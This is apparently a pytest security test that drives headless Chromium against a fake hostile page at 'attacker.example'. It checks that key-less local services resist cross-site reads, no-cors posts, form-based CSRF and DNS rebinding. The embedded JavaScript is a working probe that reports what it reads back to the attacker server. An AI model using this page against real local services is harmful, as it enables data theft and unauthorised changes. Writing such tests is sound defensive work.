"""A page of another site, in a real browser: its access to services that need no key.

Needs Debian's chromium, or another Chrome in the PATH; tests/unit/test_neighbours.py sends the same requests
without a browser.
"""

import asyncio
import contextlib
import json
import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse

from archon.devstack.vectors import vectors
from archon.runtime.http.serving import serve_http
from archon.runtime.local_ports import HOST, free_ports
from archon.runtime.settings import Settings

BROWSER = shutil.which("chromium") or shutil.which("google-chrome") or ""
SITE = "attacker.example"
pytestmark = [
    pytest.mark.skipif(not BROWSER, reason="a browser"),
    pytest.mark.threat,
    pytest.mark.timeout(120),
]
PAGE = """<!doctype html><title>another site</title><iframe name="frame"></iframe><script>
const targets = TARGETS, found = {};
const read = async (name, url, options) => {
  try {
    const answer = await fetch(url, options);
    found[name] = answer.type === "opaque" ? "opaque" : `${answer.status} ${await answer.text()}`;
  } catch (error) { found[name] = "refused"; }
};
(async () => {
  for (const [name, url] of Object.entries(targets)) {
    await read(`${name}: read`, `${url}/secret`);
    await read(`${name}: read without asking`, `${url}/secret`, {mode: "no-cors"});
    await read(`${name}: empty post`, `${url}/change`, {method: "POST", mode: "no-cors"});
    await read(`${name}: plain post`, `${url}/change`, {method: "POST", mode: "no-cors", body: "{}"});
    await read(`${name}: delete`, `${url}/change`, {method: "DELETE"});
    const form = document.createElement("form");
    Object.assign(form, {method: "post", action: `${url}/change`, target: "frame"});
    document.body.append(form);
    const frame = document.querySelector("iframe");
    const loaded = new Promise(resolve => frame.addEventListener("load", resolve, {once: true}));
    form.submit();
    await loaded;
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


class Victim:
    """Like a bridge without keys: data to read, and data to change."""

    def __init__(self) -> None:
        self.changed = 0
        self.app = FastAPI()

        @self.app.get("/secret")
        async def secret() -> str:
            return "geheim"

        @self.app.post("/change")
        @self.app.delete("/change")
        async def change() -> None:
            self.changed += 1


@contextlib.asynccontextmanager
async def attacker(port: int, targets: dict[str, str]) -> AsyncIterator[asyncio.Future[dict[str, str]]]:
    """Serves the page; the future is the page's result."""
    app, reported = FastAPI(), asyncio.get_running_loop().create_future()

    @app.get("/")
    async def page() -> HTMLResponse:
        return HTMLResponse(PAGE.replace("TARGETS", json.dumps(targets)))

    @app.post("/report")
    async def report(request: Request) -> None:
        reported.set_result(json.loads(await request.body()))

    async with serve_http(app, Settings(shutdown_timeout=1, allowed_hosts=SITE), port):
        yield reported


async def opened(url: str, profile: Path, reported: asyncio.Future[dict[str, str]]) -> dict[str, str]:
    """The result of the page at `url`. The site's host name resolves to this machine, as in DNS rebinding."""
    browser = await asyncio.create_subprocess_exec(
        *(BROWSER, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}"),
        *(f"--host-resolver-rules=MAP {SITE} {HOST}", "--remote-debugging-port=0", url),
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        return await asyncio.wait_for(reported, 60)
    finally:
        browser.kill()
        await browser.wait()


@pytest.mark.parametrize("site", [HOST, SITE, "localhost"])
async def test_a_page_of_another_site_reads_and_changes_nothing(site: str, tmp_path: Path) -> None:
    victim, (port, own) = Victim(), free_ports(2)
    targets = {"address": f"http://{HOST}:{port}", "name": f"http://localhost:{port}"}
    if site == SITE:
        targets["rebound"] = f"http://{SITE}:{port}"
    async with (
        serve_http(victim.app, Settings(shutdown_timeout=1), port),
        attacker(own, targets) as reported,
    ):
        found = await opened(f"http://{site}:{own}/", tmp_path / "profile", reported)
    assert len(found) == 5 * len(targets)
    assert not [each for each in found.values() if "geheim" in each], found
    assert victim.changed == 0


async def test_a_name_that_is_rebound_to_this_machine_reads_nothing_of_vectors(tmp_path: Path) -> None:
    port, own = free_ports(2)
    async with vectors(tmp_path / "data", port):
        targets = {"address": f"http://{HOST}:{port}", "rebound": f"http://{SITE}:{port}"}
        async with attacker(own, targets) as reported:
            found = await opened(f"http://{SITE}:{own}/", tmp_path / "profile", reported)
    assert not [each for each in found.values() if each[0].isdigit()], found
